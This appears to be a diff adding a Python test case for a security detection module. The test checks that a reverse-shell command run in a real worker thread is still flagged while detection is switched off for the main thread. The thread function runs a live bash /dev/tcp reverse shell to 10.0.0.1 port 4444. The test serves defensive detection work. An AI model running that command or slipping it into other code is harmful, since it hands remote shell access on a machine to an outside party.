@@ -0,0 +1,33 @@
+# detect-args: virtual_thread=false
+# detect-expect: ^REAL_THREAD True$
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+# 主线程交替进入不同的frame，每次都要在临时关闭detect模块的情况下判断frame是否属于lib；
+# 关闭只对主线程生效，同时运行的真实工作线程中的回连命令仍然要被检出
+import os, sys, threading
+
+sys.setswitchinterval(1e-6)
+main_id = threading.get_native_id()
+started = threading.Event()
+
+
+def first(n):
+    return n + 1
+
+
+def second(n):
+    return n - 1
+
+
+def shell():
+    print("REAL_THREAD", threading.get_native_id() != main_id, flush=True)
+    started.set()
+    os.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
+
+
+t = threading.Thread(target=shell)
+t.start()
+started.wait()
+total = 0
+for i in range(20000):
+    total = first(total) if i % 2 else second(total)
+t.join()